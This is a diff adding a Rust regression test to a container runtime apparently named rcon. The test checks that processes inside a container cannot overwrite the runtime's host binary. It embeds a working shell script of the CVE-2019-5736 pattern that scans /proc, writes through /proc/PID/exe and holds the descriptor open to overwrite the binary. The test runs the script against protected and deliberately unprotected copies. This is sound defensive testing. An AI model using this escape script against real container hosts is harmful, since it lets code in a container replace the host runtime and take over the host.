@@ -637,3 +637,176 @@ fn seccomp_default_profile_covers_i386_system_calls() {
     // Without seccomp, getpid goes through as well.
     assert_eq!(run_ok(&rcon, &image, &["--security-opt", "seccomp=unconfined"], &["/bin/sys32", "20"]).trim(), "1 1");
 }
+
+/// The attacker of the CVE-2019-5736 pattern, as a container's main
+/// process: in rounds, it finds a process of the container that does not
+/// run busybox (an rcon process: `rcon exec`'s helper, or the rcon that
+/// `exec /proc/self/exe` started from it), writes straight through its
+/// `/proc/PID/exe`, and holds that file open (read-only, in a `sleep`)
+/// to write through the descriptor once the binary is no longer busy.
+/// `/out/log` gets `held ROUND PID EXE` and `result ROUND written|ERROR`.
+const EXE_ATTACKER: &str = r#"
+round=0
+while :; do
+  round=$((round+1)); holder=
+  while [ -z "$holder" ]; do
+    for d in /proc/[0-9]*; do
+      e=$(readlink $d/exe 2>/dev/null) || continue
+      case "$e" in ""|/bin/busybox) continue;; esac
+      echo PWNED 2>/dev/null >> $d/exe && echo "direct $round written" >> /out/log
+      sleep 100000 3< $d/exe 2>/dev/null &
+      h=$!
+      while [ ! -e /proc/$h/fd/3 ] && [ -e /proc/$h/stat ]; do :; done
+      if [ -e /proc/$h/fd/3 ]; then holder=$h; echo "held $round ${d#/proc/} $e" >> /out/log; break; fi
+    done
+  done
+  while :; do
+    if err=$( { echo PWNED >> /proc/$holder/fd/3; } 2>&1 ); then echo "result $round written" >> /out/log; break; fi
+    case "$err" in *busy*) echo "$round" > /out/busy ;; *) echo "result $round $err" >> /out/log; break ;; esac
+  done
+  kill $holder
+done
+"#;
+
+/// The pid of the monitor of container `id` (a process `rcon __monitor … ID`).
+fn monitor_pid(id: &str) -> i32 {
+    for entry in std::fs::read_dir("/proc").unwrap().flatten() {
+        let Ok(pid) = entry.file_name().to_string_lossy().parse::<i32>() else { continue };
+        let cmdline = std::fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default();
+        let args: Vec<&[u8]> = cmdline.split(|&b| b == 0).collect();
+        if args.get(1) == Some(&&b"__monitor"[..]) && args.contains(&id.as_bytes()) {
+            return pid;
+        }
+    }
+    panic!("no monitor process for container {id}")
+}
+
+fn file_sha256(path: &std::path::Path) -> String {
+    crate::common::sha256_hex(&std::fs::read(path).unwrap())
+}
+
+/// One attack: `rcon exec -i CTR /proc/self/exe load` (the exec helper
+/// re-executes its own binary inside the container, and `load` waits on
+/// stdin); once the attacker holds the binary of that process, stdin
+/// closes and the process ends. Returns the attacker's `result` line of
+/// `round`.
+fn exe_attack_round(
+    cmd: &dyn Fn(&[&str]) -> std::process::Command,
+    ctr: &str,
+    out: &std::path::Path,
+    round: u32,
+) -> String {
+    use std::io::Write;
+    let log = || std::fs::read_to_string(out.join("log")).unwrap_or_default();
+    let mut exec = cmd(&["exec", "-i", ctr, "/proc/self/exe", "load"])
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    crate::common::eventually("the attacker holds an rcon binary", || {
+        log().lines().any(|l| l.starts_with(&format!("held {round} ")))
+    });
+    exec.stdin.take().unwrap().write_all(b"").unwrap();
+    let done = exec.wait_with_output().unwrap();
+    assert_ne!(code(&done), 0, "load of an empty stdin fails: {}", stderr(&done));
+    let line = format!("result {round} ");
+    crate::common::eventually("the attacker's write attempt", || log().lines().any(|l| l.starts_with(&line)));
+    log().lines().find(|l| l.starts_with(&line)).unwrap().to_string()
+}
+
+#[test]
+fn containers_cannot_write_rcon_binary_through_proc_exe() {
+    let (_reg, rcon, image) = setup();
+    // The attacks run against copies of rcon (never the binary under test).
+    let bin_dir = rcon.dir().join("bin");
+    std::fs::create_dir(&bin_dir).unwrap();
+    let real = std::path::Path::new(env!("CARGO_BIN_EXE_rcon"));
+    let real_sha = file_sha256(real);
+    for (protected, name) in [(true, "protected"), (false, "unprotected")] {
+        let bin = bin_dir.join(name).join("rcon");
+        std::fs::create_dir(bin.parent().unwrap()).unwrap();
+        std::fs::copy(real, &bin).unwrap();
+        let before = file_sha256(&bin);
+        let cmd = |args: &[&str]| {
+            let mut c = std::process::Command::new(&bin);
+            c.arg("--root").arg(&rcon.root).arg("--runroot").arg(&rcon.runroot).args(args).stdin(Stdio::null());
+            c.env_remove("RCON_ROOT").env_remove("RCON_RUNROOT").env_remove("RCON_INSECURE_WRITABLE_EXE");
+            if !protected {
+                c.env("RCON_INSECURE_WRITABLE_EXE", "1");
+            }
+            c
+        };
+        let out = rcon.dir().join(format!("out-{name}"));
+        std::fs::create_dir(&out).unwrap();
+        // The host's libraries, so that rcon itself can run in the container.
+        let vol = format!("{}:/out", out.display());
+        let run = cmd(&[
+            "run",
+            "-d",
+            "--network",
+            "none",
+            "-v",
+            &vol,
+            "-v",
+            "/usr/lib:/lib:ro",
+            "-v",
+            "/usr/lib64:/lib64:ro",
+            &image,
+            "sh",
+            "-c",
+            EXE_ATTACKER,
+        ])
+        .output()
+        .unwrap();
+        assert_eq!(code(&run), 0, "run -d: {}", stderr(&run));
+        let id = stdout(&run).trim().to_string();
+        let monitor = monitor_pid(&id);
+        if protected {
+            // With the monitor running, the binary stays busy: the attacker
+            // holds it, and keeps failing with "Text file busy".
+            let mut exec = cmd(&["exec", "-i", &id, "/proc/self/exe", "load"])
+                .stdin(Stdio::piped())
+                .stdout(Stdio::piped())
+                .stderr(Stdio::piped())
+                .spawn()
+                .unwrap();
+            crate::common::eventually("the attacker holds an rcon binary", || {
+                std::fs::read_to_string(out.join("log")).unwrap_or_default().starts_with("held 1 ")
+            });
+            drop(exec.stdin.take());
+            let _ = exec.wait_with_output().unwrap();
+            std::fs::remove_file(out.join("busy")).ok();
+            crate::common::eventually("a write attempt after exec ended", || out.join("busy").exists());
+            assert_eq!(file_sha256(&bin), before, "rcon's binary was written with its monitor running");
+        }
+        // SAFETY: killing the monitor this test started.
+        unsafe { libc::kill(monitor, libc::SIGKILL) };
+        crate::common::eventually("monitor gone", || {
+            std::fs::read_to_string(format!("/proc/{monitor}/stat")).map_or(true, |s| s.contains(") Z "))
+        });
+        if protected {
+            crate::common::eventually("the first round's result", || {
+                std::fs::read_to_string(out.join("log")).unwrap().contains("result 1 ")
+            });
+            let log = std::fs::read_to_string(out.join("log")).unwrap();
+            assert!(
+                log.contains("result 1 Read-only file system") || log.contains("result 1 sh: can't create"),
+                "{log}"
+            );
+            assert!(log.contains("Read-only file system"), "{log}");
+            let second = exe_attack_round(&cmd, &id, &out, 2);
+            assert!(second.contains("Read-only file system"), "without a monitor: {second}");
+            let log = std::fs::read_to_string(out.join("log")).unwrap();
+            assert!(!log.contains("written"), "the attacker wrote: {log}");
+            assert_eq!(file_sha256(&bin), before, "rcon's binary was written:\n{log}");
+        } else {
+            // The same attack on an unprotected copy succeeds: the test sees it.
+            let result = exe_attack_round(&cmd, &id, &out, 1);
+            assert_eq!(result, "result 1 written");
+            assert_ne!(file_sha256(&bin), before, "the unprotected copy was written");
+        }
+        let _ = cmd(&["rm", "-f", &id]).output();
+    }
+    assert_eq!(file_sha256(real), real_sha);
+}
